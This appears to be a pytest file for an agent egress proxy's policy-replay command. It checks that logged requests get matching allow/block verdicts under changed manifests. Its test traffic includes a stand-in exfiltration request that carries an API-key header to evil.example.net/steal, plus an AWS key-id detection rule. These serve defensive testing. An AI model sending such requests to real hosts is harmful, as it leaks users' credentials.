"""`bottle policy replay`: the same requests through the live proxy addons and through replay
get the same verdict; a changed manifest shows what it newly blocks or allows."""

from __future__ import annotations

import asyncio
import base64
import json
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from mitmproxy import http
from mitmproxy.test import taddons, tflow

from bottle.cli import cli
from bottle.egresslog import read_log
from bottle.manifest import parse_manifest
from bottle.replay import replay_entries, replay_placeholder, replay_policy

sys.path.insert(0, str(Path(__file__).parent / "mitm"))
from mitm_fixture import Chain  # noqa: E402
from bottle.mitm.scanner import ScanResult  # noqa: E402

AGENT = "127.0.0.1"  # the client replay_policy names
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
ENV = {"API_KEY": "real-api-key", "GH_TOKEN": "real-gh-token", "PAIR": "real-pair"}

MANIFEST = """\
version: 1
name: replay
egress:
  mode: {mode}
  allow:
    - host: api.anthropic.com
      methods: [GET, POST]
      paths: [/v1/, /api/]
      ports: [443]
    - host: github.com
      methods: [GET, POST]
      ports: [443]
    - host: api.github.com
      ports: [443]
    - host: uploads.example.com
      methods: [PUT]
      scan_body: false
    - host: basic.example.com
  routes:
    - host: api.anthropic.com
      paths: [/v1/]
      auth: {{scheme: header, header: x-api-key, token_ref: API_KEY}}
    - host: api.github.com
      auth: {{scheme: bearer, token_ref: GH_TOKEN}}
    - host: basic.example.com
      auth: {{scheme: basic, username: bot, token_ref: PAIR}}
git:
  repositories:
    - {{repo: github.com/acme/widgets, access: read}}
scanner:
  mode: {scanner}
"""


def manifest(mode="enforce", scanner="block", text=None, tmp_path=None):
    body = text if text is not None else MANIFEST.format(mode=mode, scanner=scanner)
    path = (tmp_path or Path("/nonexistent")) / "bottle.yaml"
    if tmp_path is not None:
        path.write_text(body)
    return parse_manifest(body, path)


class ContentScanner:
    """Denies what contains an AWS key id, like pipelock's DLP rule."""

    async def scan_url(self, url):
        return self._check(url)

    async def scan_text(self, text):
        return self._check(text)

    def _check(self, text):
        if AWS_KEY in text:
            return ScanResult("deny", (("DLP-AWS Access ID", "Secret-like token detected (AWS Access ID)"),))
        return ScanResult("allow")


P_API, P_GH, P_PAIR = (replay_placeholder(ref) for ref in ("API_KEY", "GH_TOKEN", "PAIR"))
BASIC = "Basic " + base64.b64encode(f"bot:{P_PAIR}".encode()).decode()

# (method, url, headers, body): what an agent sends.
TRAFFIC = [
    ("POST", "https://api.anthropic.com/v1/messages", [("x-api-key", P_API), ("content-type", "application/json")],
     b'{"model": "m"}'),
    ("GET", "https://api.anthropic.com/api/claude_code/settings", [("x-api-key", P_API)], b""),
    ("GET", "https://api.anthropic.com/api/hello", [], b""),
    ("DELETE", "https://api.anthropic.com/v1/messages/1", [("x-api-key", P_API)], b""),
    ("GET", "https://api.anthropic.com/v2/models?key=abc", [], b""),
    ("GET", "https://api.anthropic.com:8443/v1/models", [], b""),
    ("GET", "https://evil.example.net/steal", [("x-api-key", P_API)], b""),
    ("GET", "https://telemetry.example.net/v1/collect", [], b""),
    ("GET", "https://1.2.3.4/x", [], b""),
    ("POST", "https://api.anthropic.com/v1/messages", [("x-api-key", "someone-elses-key")], b"{}"),
    ("POST", "https://api.anthropic.com/v1/messages", [("content-type", "text/plain")], AWS_KEY.encode()),
    ("POST", "https://api.anthropic.com/v1/messages", [("content-type", "application/octet-stream")], b"\xff\x00\x81"),
    ("GET", f"https://api.anthropic.com/v1/models?token={P_GH}", [], b""),
    ("GET", "https://api.github.com/repos/acme/widgets/pulls", [("authorization", f"Bearer {P_GH}")], b""),
    ("PUT", "https://api.github.com/repos/acme/widgets/pulls/1/merge", [("authorization", f"Bearer {P_GH}")], b""),
    ("POST", "https://api.github.com/graphql", [("content-type", "application/json")],
     b'{"query": "mutation { mergePullRequest(input: {}) { clientMutationId } }"}'),
    ("GET", "https://github.com/acme/widgets.git/info/refs?service=git-upload-pack", [], b""),
    ("POST", "https://github.com/acme/widgets.git/git-upload-pack",
     [("content-type", "application/x-git-upload-pack-request")], b"0032want 0000000000000000000000000000000000000000\n0000"),
    ("GET", "https://github.com/acme/widgets.git/info/refs?service=git-receive-pack", [], b""),
    ("GET", "https://github.com/acme/other.git/info/refs?service=git-upload-pack", [], b""),
    ("PUT", "https://uploads.example.com/blob/1", [("content-type", "application/octet-stream")], b"\x00\x01\x02"),
    ("GET", "https://basic.example.com/x", [("authorization", BASIC)], b""),
    ("GET", "https://basic.example.com/x", [("x-note", f"copy of {P_API} here")], b""),
]


def live_log(policy, tmp_path, traffic=TRAFFIC) -> Path:
    """The log lines the proxy's own addons write for traffic."""
    lines: list[dict] = []
    chain = Chain(policy, ContentScanner(), env=dict(ENV), emit=lines.append)

    async def one(method, url, headers, body):
        f = tflow.tflow()
        f.live = True
        f.client_conn.peername = (AGENT, 40000)
        f.request = http.Request.make(method, url, body, [(k.encode(), v.encode()) for k, v in headers])
        f.client_conn.sni = f.request.host
        f.response = None
        await chain.requestheaders(f)
        if f.response is None and callable(f.request.stream):
            f.request.stream(body)
        await chain.request(f)
        if f.response is None:
            f.response = http.Response.make(200, b"ok", {"content-type": "text/plain"})
            await chain.responseheaders(f)
        await chain.response(f)

    with taddons.context(*chain.addons):
        for item in traffic:
            asyncio.run(one(*item))
    path = tmp_path / "egress.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


@pytest.mark.parametrize("mode, scanner", [("enforce", "block"), ("discover", "block"), ("enforce", "audit")])
def test_replay_reaches_the_verdict_the_live_proxy_reached_for_every_request(tmp_path, mode, scanner):
    m = manifest(mode, scanner)
    log = live_log(replay_policy(m), tmp_path)
    report = replay_entries(read_log(log), m)
    assert len(report.results) == len(TRAFFIC)
    compared = []
    for result in report.results:
        before, after = result.before, result.after
        assert after.decision != "undecidable", (result.entry.raw, after)
        compared.append((before.decision, before.rule, before.reason, before.token_ref))
        assert (after.decision, after.rule, after.reason, after.token_ref) == compared[-1], result.entry.raw
    assert report.counts() == {"newly_blocked": 0, "newly_allowed": 0, "unchanged": len(TRAFFIC), "undecidable": 0}
    assert {d for d, *_ in compared} == ({"allow", "block"} | ({"would_block"} if mode != "enforce" or
                                                              scanner == "audit" else set()))


def test_a_tightened_manifest_reports_exactly_what_it_newly_blocks_and_exits_1(tmp_path):
    m = manifest()
    log = live_log(replay_policy(m), tmp_path)
    tightened = MANIFEST.format(mode="enforce", scanner="block").replace(
        "      paths: [/v1/, /api/]\n", "      paths: [/v1/]\n").replace(
        "    - host: uploads.example.com\n      methods: [PUT]\n      scan_body: false\n", "")
    path = tmp_path / "tight.yaml"
    path.write_text(tightened)
    result = CliRunner().invoke(cli, ["policy", "replay", str(log), str(path), "--format", "json"])
    assert result.exit_code == 1, result.output
    report = json.loads(result.output)
    newly = [(r["method"], r["host"], r["path"], r["after"]["rule"], r["after"]["reason"])
             for r in report["results"] if r["change"] == "newly_blocked"]
    assert newly == [
        ("GET", "api.anthropic.com", "/api/hello", "egress.allow[0]",
         "GET /api/hello is not allowed for api.anthropic.com by egress.allow[0]"),
        ("PUT", "uploads.example.com", "/blob/1", None, "no rule allows host uploads.example.com"),
    ]
    assert report["counts"] == {"newly_blocked": 2, "newly_allowed": 0, "unchanged": len(TRAFFIC) - 2,
                                "undecidable": 0}
    text = CliRunner().invoke(cli, ["policy", "replay", str(log), str(path)])
    assert text.exit_code == 1
    assert "  newly blocked       2\n" in text.output
    assert ("  PUT https://uploads.example.com/blob/1  ×1  [-] no rule allows host uploads.example.com\n"
            in text.output)


def test_a_loosened_manifest_reports_what_it_newly_allows_and_exits_0(tmp_path):
    m = manifest()
    log = live_log(replay_policy(m), tmp_path)
    loosened = MANIFEST.format(mode="enforce", scanner="block").replace(
        "      paths: [/v1/]\n      auth: {scheme: header", "      paths: [/v1/, /api/claude_code/]\n      auth: {scheme: header")
    report = replay_entries(read_log(log), manifest(text=loosened, tmp_path=tmp_path))
    assert [(r.entry["path"], r.after.decision, r.after.token_ref) for r in report.of("newly_allowed")] == [
        ("/api/claude_code/settings", "allow", "API_KEY")]
    assert report.newly_blocked == []


def test_requests_the_log_cannot_decide_are_reported_as_such(tmp_path):
    m = manifest()
    traffic = [("PUT", "https://uploads.example.com/blob/1", [("content-type", "text/plain")], b"hello")]
    log = live_log(replay_policy(m), tmp_path, traffic)
    scans_bodies = MANIFEST.format(mode="enforce", scanner="block").replace("      scan_body: false\n", "")
    report = replay_entries(read_log(log), manifest(text=scans_bodies, tmp_path=tmp_path))
    (result,) = report.results
    assert result.change == "undecidable"
    assert result.after.reason == "the scanner did not see the body when this was logged; this policy scans it"


def test_a_push_is_undecidable_unless_its_url_is_refused(tmp_path):
    m = manifest(text=MANIFEST.format(mode="enforce", scanner="block").replace("access: read", "access: push"),
                 tmp_path=tmp_path)
    push = ("POST", "https://github.com/acme/widgets.git/git-receive-pack",
            [("content-type", "application/x-git-receive-pack-request")], b"0000")
    log = live_log(replay_policy(m), tmp_path, [push])
    (same,) = replay_entries(read_log(log), m).results
    assert (same.change, same.after.reason) == (
        "undecidable", "a push is judged on the refs and commits in its body, which the log does not hold")
    (read_only,) = replay_entries(read_log(log), manifest()).results
    assert (read_only.change, read_only.after.rule, read_only.after.reason) == (
        "newly_blocked", "git.repositories[0]", "github.com/acme/widgets is read-only (access: read)")


def test_replay_refuses_a_log_from_before_format_2_with_the_line(tmp_path):
    log = tmp_path / "old.jsonl"
    log.write_text(json.dumps({"time": "t", "method": "GET", "host": "a.example.com", "port": 443, "path": "/",
                               "status": 200, "decision": "allow", "rule": None, "reason": ""}) + "\n")
    path = tmp_path / "m.yaml"
    path.write_text(MANIFEST.format(mode="enforce", scanner="block"))
    result = CliRunner().invoke(cli, ["policy", "replay", str(log), str(path)], standalone_mode=False)
    assert isinstance(result.exception, Exception)
    assert str(result.exception).startswith(f"{log}:1: log format 1 lacks what replay needs")


def test_refusals_that_are_not_the_policys_stay_and_an_unreachable_scanner_is_undecidable(tmp_path):
    from bottle.mitm.logformat import log_line

    base = dict(time="t", bottle="b", client=AGENT, method="POST", scheme="https", host="api.anthropic.com",
                port=443, path="/v1/messages", status=403, decision="block")
    lines = [
        log_line(**base, reason="client 172.20.0.9 is not this bottle's agent"),
        log_line(**{**base, "status": 421}, reason="misdirected request: CONNECT target api.anthropic.com, TLS "
                                                   "SNI evil.example.net do not agree"),
        log_line(**{**base, "status": 503}, rule="egress.allow[0]",
                 reason="scanner unavailable: connection refused"),
    ]
    log = tmp_path / "l.jsonl"
    log.write_text("".join(json.dumps(line) + "\n" for line in lines))
    report = replay_entries(read_log(log), manifest())
    assert [(r.change, r.after.decision) for r in report.results] == [
        ("unchanged", "block"), ("unchanged", "block"), ("undecidable", "undecidable")]
    assert report.results[2].after.reason == ("when logged, the request was refused for a reason outside the "
                                              "policy (scanner unavailable: connection refused)")


def test_a_passthrough_tunnel_replays_as_the_proxy_decided_it(tmp_path):
    from types import SimpleNamespace

    text = MANIFEST.format(mode="enforce", scanner="block").replace(
        "    - host: basic.example.com\n  routes:", "    - host: basic.example.com\n"
        "    - {host: pinned.example.com, tls: passthrough, ports: [443]}\n  routes:")
    m = manifest(text=text, tmp_path=tmp_path)
    lines: list[dict] = []
    chain = Chain(replay_policy(m), None, env=dict(ENV), emit=lines.append)
    data = SimpleNamespace(context=SimpleNamespace(server=SimpleNamespace(address=("pinned.example.com", 443)),
                                                   client=SimpleNamespace(peername=(AGENT, 1))),
                           client_hello=SimpleNamespace(sni="pinned.example.com"), ignore_connection=False)
    with taddons.context(*chain.addons):
        asyncio.run(next(a for a in chain.addons if type(a).__name__ == "TlsPassthrough").tls_clienthello(data))
    log = tmp_path / "l.jsonl"
    log.write_text(json.dumps(lines[0]) + "\n")
    (same,) = replay_entries(read_log(log), m).results
    assert (same.change, same.after.decision, same.after.rule) == ("unchanged", "allow", "egress.allow[5]")
    assert same.after.note == "TLS passthrough: not decrypted, not scanned"
    (intercepted,) = replay_entries(read_log(log), manifest(text=text.replace(", tls: passthrough", ""),
                                                             tmp_path=tmp_path)).results
    assert (intercepted.change, intercepted.after.note) == (
        "unchanged", "now decrypted: each request in the tunnel is checked on its own")
